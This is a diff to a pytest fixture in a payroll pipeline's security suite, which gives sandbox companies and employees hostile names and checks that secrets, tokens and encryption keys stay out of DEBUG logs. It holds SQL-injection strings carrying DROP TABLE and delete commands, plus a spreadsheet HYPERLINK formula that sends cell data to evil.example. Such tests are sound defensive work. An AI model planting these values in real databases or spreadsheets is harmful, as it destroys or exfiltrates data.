@@ -1,14 +1,16 @@
-"""The security suite's pipeline: a demo sandbox with hostile names, synced once with DEBUG logging.
+"""The security suite's pipeline: a demo sandbox with hostile names, synced once at PAYROLL_LOG_LEVEL=DEBUG.
 
 `secured` holds everything the leak, access and injection tests read: the captured log text of the
-whole sync (root logger and zeep, urllib3, requests, dagster at DEBUG), the text of every Dagster
+whole sync (the product's own logging set up by PAYROLL_LOG_LEVEL=DEBUG, so every Python logger at
+DEBUG, plus Dagster's console log, which `run_sync` then shows at DEBUG), the text of every Dagster
 event record of its runs, the exception texts of a sync made to fail, the secrets in play (SOAP
 token, client secret, subscription key, every access and refresh token the identity service
-issued) and the sandbox employees' BSNs and birth dates.
+issued, the key that encrypts the stored tokens) and the sandbox employees' BSNs and birth dates.
 """
 
 from __future__ import annotations
 
+import contextlib
 import dataclasses
 import io
 import logging
@@ -16,11 +18,13 @@ from dataclasses import dataclass, field
 
 import pytest
 
+from pipelines.lib.logs import configure_logging
 from tests.reliability.support import Pipeline, new_pipeline, step_errors
 
 HOSTILE_COMPANY = 'Robert\'); DROP TABLE nmbrs.companies; -- \\N \t "x" $$ ; select 1'
 HOSTILE_LAST_NAME = "O'Neil\"; delete from nmbrs.employees; --\\"
-DEBUG_LOGGERS = ("", "zeep", "zeep.transports", "urllib3", "requests", "dagster", "pipelines")
+FORMULA_COMPANY = '=HYPERLINK("http://evil.example/?x="&A2,"Klik hier")'  # what a spreadsheet would run
+FORMULA_COMPANY_ID = 102
 
 
 @dataclass
@@ -48,8 +52,10 @@ def secured(make_database, tmp_path_factory):
     sandbox = SandboxServer.start(scenario="demo", seed=42, host="127.0.0.1", port=0)
     try:
         hostile_company, hostile_employee = _make_names_hostile(sandbox)
-        pipeline = new_pipeline(make_database, tmp_path_factory.mktemp("security-home"), sandbox)
-        with capture_debug_logs() as captured:
+        pipeline = new_pipeline(
+            make_database, tmp_path_factory.mktemp("security-home"), sandbox, PAYROLL_LOG_LEVEL="DEBUG"
+        )
+        with capture_debug_logs(pipeline) as captured:
             result = pipeline.sync()
             assert result.success, step_errors(result)
             failed = _failing_sync(pipeline)
@@ -64,6 +70,11 @@ def secured(make_database, tmp_path_factory):
         }
         for number, token in enumerate([*identity._access, *identity._refresh]):
             secrets[f"oauth token #{number}"] = token
+        with pipeline.active():
+            from pipelines.lib.encryption import key_ring
+
+            for number, key in enumerate(key_ring().keys):
+                secrets[f"token encryption key #{number}"] = key.decode()
         employees = [
             e
             for company in sandbox.state.world.companies()
@@ -87,8 +98,12 @@ def secured(make_database, tmp_path_factory):
 
 
 def _make_names_hostile(sandbox) -> tuple[int, tuple[int, int]]:
-    """Give company 103 and one of its employees names full of quotes, semicolons and COPY escapes."""
+    """Give company 103 and one of its employees names full of quotes, semicolons and COPY escapes,
+    and company 102 a name that is a spreadsheet formula."""
     world = sandbox.state.world
+    world._companies[FORMULA_COMPANY_ID] = dataclasses.replace(
+        world.company(FORMULA_COMPANY_ID), name=FORMULA_COMPANY
+    )
     company = world.company(103)
     world._companies[103] = dataclasses.replace(company, name=HOSTILE_COMPANY)
     employees = world.employees(103)
@@ -97,23 +112,28 @@ def _make_names_hostile(sandbox) -> tuple[int, tuple[int, int]]:
 
 
 class capture_debug_logs:  # noqa: N801 - used as a context manager, reads like one
-    """Every logger at DEBUG into one buffer (zeep.transports included: the client must hold it at INFO)."""
+    """The pipeline's logging as `payroll` sets it up (PAYROLL_LOG_LEVEL=DEBUG), into one buffer, with
+    stderr (Dagster's console log) redirected there too. zeep.transports is included: the product
+    holds it at INFO."""
+
+    def __init__(self, pipeline: Pipeline):
+        self.pipeline = pipeline
 
     def __enter__(self) -> io.StringIO:
         self.buffer = io.StringIO()
-        self.handler = logging.StreamHandler(self.buffer)
-        self.handler.setLevel(logging.DEBUG)
-        self.handler.setFormatter(logging.Formatter("%(name)s %(levelname)s %(message)s"))
-        self.saved = {name: logging.getLogger(name).level for name in DEBUG_LOGGERS}
-        for name in DEBUG_LOGGERS:
-            logging.getLogger(name).setLevel(logging.DEBUG)
-        logging.getLogger().addHandler(self.handler)
+        root = logging.getLogger()
+        self.saved = (root.level, list(root.handlers))
+        with self.pipeline.active():
+            assert configure_logging(stream=self.buffer) == "DEBUG"
+        self.stderr = contextlib.redirect_stderr(self.buffer)
+        self.stderr.__enter__()
         return self.buffer
 
     def __exit__(self, *exc) -> None:
-        logging.getLogger().removeHandler(self.handler)
-        for name, level in self.saved.items():
-            logging.getLogger(name).setLevel(level)
+        self.stderr.__exit__(*exc)
+        root = logging.getLogger()
+        root.setLevel(self.saved[0])
+        root.handlers[:] = self.saved[1]
 
 
 def _failing_sync(pipeline: Pipeline):
